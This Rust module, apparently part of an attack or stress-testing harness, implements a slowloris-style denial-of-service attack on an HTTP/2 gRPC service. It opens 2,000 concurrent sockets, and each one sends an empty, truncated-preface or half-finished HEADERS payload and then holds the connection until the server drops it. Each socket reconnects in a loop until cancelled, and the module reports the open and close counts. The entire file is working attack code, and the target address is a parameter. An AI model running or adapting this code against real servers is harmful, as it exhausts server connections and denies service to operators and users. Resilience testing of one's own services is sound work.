//! Sockets that begin something and do not end it.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;
use tokio_util::sync::CancellationToken;

use super::Target;
use crate::attack::wire::{HEADERS, PREFACE, beginning, connect, frame, head};

const SOCKETS: usize = 2_000;
/// The pause before a socket is opened again.
const PAUSE: Duration = Duration::from_millis(500);

pub(super) async fn run(target: Target, stop: CancellationToken) -> String {
    let half_head = frame(HEADERS, 0, 1, &head("encore.catalog.v1.CatalogService/ListConcerts"));
    let kinds: [Arc<[u8]>; 3] = [[].into(), PREFACE[..10].into(), [beginning(65_535), half_head].concat().into()];
    let (opened, closed) = (AtomicU64::new(0), AtomicU64::new(0));
    join_all((0..SOCKETS).map(|number| {
        let (bytes, target, stop) = (Arc::clone(&kinds[number % kinds.len()]), &target, &stop);
        let (opened, closed) = (&opened, &closed);
        async move {
            while !stop.is_cancelled() {
                if let Ok(mut socket) = connect(&target.address).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    let _ = socket.write_all(&bytes).await;
                    let mut ignored = [0; 1024];
                    let until_closed = async { while socket.read(&mut ignored).await.is_ok_and(|read| read > 0) {} };
                    tokio::select! {
                        () = until_closed => drop(closed.fetch_add(1, Ordering::Relaxed)),
                        () = stop.cancelled() => {}
                    }
                }
                sleep(PAUSE).await;
            }
        }
    }))
    .await;
    format!("{} sockets opened, {} closed by the server", opened.into_inner(), closed.into_inner())
}
